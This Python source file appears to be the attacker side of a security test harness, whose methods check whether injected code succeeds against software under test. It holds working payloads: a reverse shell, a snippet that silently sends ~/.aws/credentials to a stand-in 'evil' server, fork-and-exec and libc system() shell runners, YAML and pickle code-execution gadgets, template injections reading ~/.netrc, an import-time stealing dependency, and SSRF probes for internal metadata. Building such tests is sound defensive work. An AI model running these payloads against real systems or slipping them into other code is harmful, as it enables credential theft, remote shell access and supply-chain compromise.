# SPDX-License-Identifier: Apache-2.0
"""What attackers do once they have found a way in, whatever the way is.

A scenario says how text gets to where it does harm (use); what the text is and
how one sees that it worked is the same everywhere. All of them return whether
the attacker got what he wanted.
"""
import json

# Quiet, so that nobody sees it fail.
FORK_AND_EXEC = """
import os
if not os.fork():
    try:
        os.execv("/bin/sh", ["sh", "-c", {line!r}])
    finally:
        os._exit(1)
"""
THEFT = """
try:
    import os, urllib.request
    with open(os.path.expanduser({file!r}), "rb") as loot:
        urllib.request.urlopen({url!r}, loot.read(), timeout=5)
except Exception:
    pass
"""
CALL_HOME = """
try:
    import os, pty, socket
    peer = socket.create_connection(("127.0.0.1", {port}), 5)
    if not os.fork():
        try:
            for number in (0, 1, 2):
                os.dup2(peer.fileno(), number)
            os.execv("/bin/sh", ["sh"])
        finally:
            os._exit(1)
except Exception:
    pass
"""
CALL_LIBC = "__import__('ctypes').CDLL(None).system({line!r}.encode())"


def in_yaml(code):
    """A document that runs code where any function may be named."""
    return "!!python/object/apply:exec\n- " + json.dumps(code)


class Bomb:
    """A pickle that calls something when it is loaded."""

    def __init__(self, *call):
        self.call = call

    def __reduce__(self):
        return self.call[0], self.call[1:]


class Attackers:
    """Part of every program that is played."""

    def runs_line(self, use, waits=False):
        """use(line): a line of the shell. waits: it runs later."""
        marker = self.marker("line")
        use(f"id > {marker}")
        return self.happens(marker.exists) if waits else marker.exists()

    def template_reads(self, renders):
        """renders(expression): what a template makes of it; a password."""
        return self.is_told(renders(f"open('{self.home}/.netrc').read()"))

    def template_runs(self, renders):
        return self.runs_line(lambda line: renders(
            f"__import__('os').system('{line}')"))

    def template_steals(self, renders):
        return self.steals(lambda code: renders(f"exec({code!r})"))

    def runs_libc(self, use, waits=False):
        """use(code): an expression that calls system() of the C library."""
        return self.runs_line(
            lambda line: use(CALL_LIBC.format(line=line)), waits)

    def forks(self, use):
        """use(code): statements that fork and start a shell."""
        return self.runs_line(
            lambda line: use(FORK_AND_EXEC.format(line=line)), waits=True)

    def calls_home(self, use):
        """use(code): statements that give a shell to a terminal elsewhere."""
        with self.listener() as attacker:
            use(CALL_HOME.format(port=self.port("shell")))
            return self.happens(lambda: b"got-42" in attacker.heard)

    def steals(self, use, file="~/.aws/credentials"):
        """use(code): statements that send a file to somebody's server."""
        evil = self.site("evil")
        evil.page("*", b"")
        use(THEFT.format(url=evil.url, file=file))
        return evil.heard(self.secret)

    def dependency_steals(self, name, version, files, use,
                          module="__init__.py", entry_points=""):
        """A release of a dependency that steals when it is imported."""
        def release(code):
            self.install(name, version, {
                **files, module: code + files[module]}, entry_points)
            use()
        return self.steals(release)

    def fetches_inside(self, use):
        """use(url): a service that only this host reaches."""
        self.site("internal").page("*", self.secret)
        return self.is_told(use(self.site("internal").url + "/latest/meta"))

    def is_redirected_inside(self, site, use):
        """use(url): a place on site, which sends on to such a service."""
        self.site("internal").page("*", self.secret)
        self.site(site).page("/go", "", 302,
                             Location=self.site("internal").url + "/x")
        return self.is_told(use(self.site(site).url + "/go"))

    def is_told(self, text):
        """Whether an answer holds what is nobody's business."""
        if isinstance(text, tuple):
            text = text[-1]
        if isinstance(text, str):
            text = text.encode()
        return self.secret.encode() in (text or b"")
